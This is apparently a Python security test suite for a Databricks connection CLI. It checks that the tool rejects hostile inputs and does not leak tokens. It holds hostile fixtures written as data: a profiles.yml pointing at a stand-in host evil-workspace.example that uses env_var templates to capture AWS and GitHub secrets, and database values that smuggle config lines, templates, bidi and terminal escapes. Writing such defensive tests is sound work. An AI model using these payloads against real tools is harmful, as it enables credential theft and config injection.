"""Files that somebody else wrote, or put in our way."""

import os
import sqlite3
import subprocess

from ground import BRICKTAP, TOKEN, Screen, Workspace, check, contents, environment, folder, options, run

SECRET = "AKIA-CANARY-0123456789"
EVIL = """evil:
  outputs:
    a:
      type: databricks
      host: evil-workspace.example
      http_path: /sql/1.0/warehouses/0e8c1f5e27c89903
      catalog: main
      schema: "{{ env_var('AWS_SECRET_ACCESS_KEY') }}"
      token: "{{ env_var('GITHUB_TOKEN') }}"
"""


def offered(cwd, env, *keys):
    """What the form's list of settings shows in a folder, after these keys."""
    screen = Screen("setup", env=env, cwd=cwd)
    check(screen.wait("Connection name"), "the form comes")
    screen.rest(0.7)
    screen.press("\x1b[19~")
    said = screen.rest(1.5)
    for key in keys:
        screen.press(key)
        said = screen.rest(0.7)
    took = screen.end()
    check(took is not None and took < 2, f"SIGTERM ended it after {took}")
    return said


def profiles():
    """A profiles.yml makes no variable public, and one of somebody else nothing at all."""
    env = environment(AWS_SECRET_ACCESS_KEY=SECRET, GITHUB_TOKEN="ghp_" + SECRET)
    here = folder()
    with open(f"{here}/profiles.yml", "w") as file:
        file.write(EVIL)
    os.chmod(f"{here}/profiles.yml", 0o644)
    said = offered(here, env, "\r")
    check("evil.a" in said, f"it is offered by its whole path: {said[-500:]}")
    check(SECRET not in said, "a variable stands on the screen")
    check(SECRET.encode() not in contents(env["BRICKTAP_HOME"]), "a variable is kept")
    os.chmod(f"{here}/profiles.yml", 0o666)
    said = offered(here, env)
    check("others may write it" in said and "evil.a" not in said, f"others may write it: {said[-500:]}")
    if os.geteuid() == 0:
        os.chmod(f"{here}/profiles.yml", 0o644)
        os.chown(f"{here}/profiles.yml", 12345, 12345)
        said = offered(here, env)
        check("it belongs to anot" in said and "evil.a" not in said, f"of another user: {said[-500:]}")
    # The token of the trade is taken after the choice, and the variable is named.
    with open(f"{here}/profiles.yml", "w") as file:
        file.write(EVIL.replace("GITHUB_TOKEN", "DBT_CANARY"))
    if os.geteuid() == 0:
        os.chown(f"{here}/profiles.yml", 0, 0)
    env = environment(DBT_CANARY=SECRET)
    said = offered(here, env, "\r")
    check("$DBT_CANARY" in said and SECRET not in said, f"the variable is named: {said[-600:]}")


def places():
    """Where the store is made, and through what."""
    victim = f"{folder()}/victim"
    with open(victim, "w") as file:
        file.write("untouched")
    env = environment(DATABRICKS_TOKEN=TOKEN)
    os.makedirs(env["BRICKTAP_HOME"], 0o700)
    os.symlink(victim, f"{env['BRICKTAP_HOME']}/tokens.json.new")
    server = Workspace()
    saved = run("save", "a", *options(server.port), "--skip-test", "--connected-by", "a@b.example", env=env)
    with open(victim) as file:
        check(saved.status == 0 and file.read() == "untouched", f"a link in the way of the tokens: {saved.said}")
    # A file in the way, of which somebody holds a descriptor.
    with open(f"{env['BRICKTAP_HOME']}/tokens.json.new", "w+") as held:
        os.chmod(held.name, 0o666)
        run("save", "b", *options(server.port), "--skip-test", "--connected-by", "a@b.example", env=env)
        held.seek(0)
        check(TOKEN not in held.read(), "the tokens were written into somebody's file")
    mode = os.stat(f"{env['BRICKTAP_HOME']}/tokens.json").st_mode & 0o777
    check(mode == 0o600, f"the tokens' mode is {mode:o}")

    for mode in (0o777, 0o772):
        env = environment()
        above = folder()
        os.chmod(above, mode)
        env["BRICKTAP_HOME"] = f"{above}/store"
        ended = run("list", env=env)
        check(ended.status == 1 and "others may write" in ended.said, f"a folder above with {mode:o}: {ended.said}")
    env["BRICKTAP_HOME"] = f"{folder()}/store"
    check(run("list", env=env).status == 0, "a folder of one's own is good")

    for name, more in [("BRICKTAP_HOME", {"BRICKTAP_HOME": "store"}), ("BRICKTAP_HOME", {"BRICKTAP_HOME": "./store"}),
                       ("BRICKTAP_HOME", {"BRICKTAP_HOME": "../store"})]:
        here = folder()
        ended = run("list", env={**environment(), **more}, cwd=here)
        check(ended.status == 1 and "absolute path" in ended.said and not os.listdir(here),
              f"{name}={more[name]}: {ended.status} {ended.said} {os.listdir(here)}")
    here = folder()
    env = {key: value for key, value in environment().items() if key not in ("HOME", "BRICKTAP_HOME")}
    subprocess.run([BRICKTAP, "completion-does-not-exist"], env=env, cwd=here, capture_output=True)
    run("--help", env=env, cwd=here)
    check(not os.listdir(here), f"without HOME something is made in the current folder: {os.listdir(here)}")
    for home in (".", "", "relative"):
        # XDG keeps it away from the account's own home.
        ended = run("list", env={**env, "HOME": home, "XDG_DATA_HOME": folder()}, cwd=here)
        check(ended.status == 0 and not os.listdir(here), f"HOME={home!r}: {ended.said} {os.listdir(here)}")


def rows():
    """A row that somebody edited by hand is one value in every format, or refused."""
    env = environment(DATABRICKS_TOKEN=TOKEN)
    server = Workspace()
    run("save", "prod", *options(server.port), "--skip-test", "--connected-by", "a@b.example", env=env)
    for form in ("jdbc", "databrickscfg", "dbt", "json"):
        check(run("export", "prod", "--as", form, env=env).status == 0, f"a usual row as {form}")
    check(run("---completion", "show", "--", "name", "0", "0", env=env).said == "prod\n", "a usual name is offered")
    for column, value in [
        ("http_path", "/sql/1.0/warehouses/a\nSSL=0;UID=x"), ("catalog", "main\r\nhost = evil.example"),
        ("schema", "{{ env_var('AWS_SECRET_ACCESS_KEY') }}"), ("schema", "{% raw %}"), ("schema", "a;PWD=b"),
        ("name", "prod]\n[evil"), ("name", "pr\u202eod"), ("http_path", "x\u2028y: z"), ("catalog", "a # b"),
        ("host", "h.example\nb: c"), ("schema", "\x1b]52;c;eA==\x07"),
    ]:
        path = f"{env['BRICKTAP_HOME']}/bricktap.sqlite"
        with sqlite3.connect(path) as database:
            before = database.execute(f"SELECT {column} FROM connection").fetchone()[0]
            database.execute(f"UPDATE connection SET {column} = ?", (value,))
        name = value if column == "name" else "prod"
        with sqlite3.connect(path) as database:
            database.execute("UPDATE connection SET name_key = lower(?)", (name,))
        for form, most in [("jdbc", 1), ("databrickscfg", 4), ("dbt", 12), ("json", 1)]:
            ended = run("export", name, "--as", form, env=env)
            lines = ended.said.rstrip("\n").split("\n")
            wild = [one for one in "\x1b\u202e\u2028\r" if one in ended.said]
            good = ended.status != 0 or (len(lines) <= most and not wild and not (form == "dbt" and "{%" in ended.said)
                                         and not (form == "dbt" and "AWS_SECRET" in ended.said))
            check(good, f"{column}={value!r} as {form}: {ended.status} {ended.said!r}")
        offered = run("---completion", "show", "--", "name", "0", "0", env=env).said
        check("\u202e" not in offered and "\n[evil" not in offered, f"{name!r} is offered by Tab: {offered!r}")
        with sqlite3.connect(path) as database:
            database.execute(f"UPDATE connection SET {column} = ?", (before,))
            database.execute("UPDATE connection SET name_key = 'prod'")


def pastes():
    """What is removed from an address is not quoted: it may be half of a secret."""
    half = TOKEN[4:]
    for host in [f"https://token:{TOKEN}@h.example/x", f"https://da/{half[:27]}@h.example", f"https://h.example/{half[:19]}",
                 f"https://x/{half[:15]}/{half[15:30]}@h.example/?o=1", f"{half}#@h.example", f"https://{half[:20]}?{half[20:]}@h.example"]:
        ended = run("test", "--host", host, "--http-path", "x", env=environment())
        from ground import digits
        check(digits(ended.said) < 8, f"{host}: {ended.said}")


def bundles():
    """A CA bundle that is no file holds nothing up."""
    pipe = f"{folder()}/pipe.pem"
    os.mkfifo(pipe, 0o600)
    for path in (pipe, "/dev/zero", "/dev/tty", folder()):
        ended = run("test", *options(443, "dbc-1.cloud.databricks.com", False), "--ca-bundle", path,
                    env=environment(DATABRICKS_TOKEN=TOKEN), timeout=20)
        check(ended.status == 64 and ended.seconds < 5, f"{path}: {ended.status} after {ended.seconds:.1f} s {ended.said}")


def attack():
    profiles()
    places()
    rows()
    pastes()
    bundles()
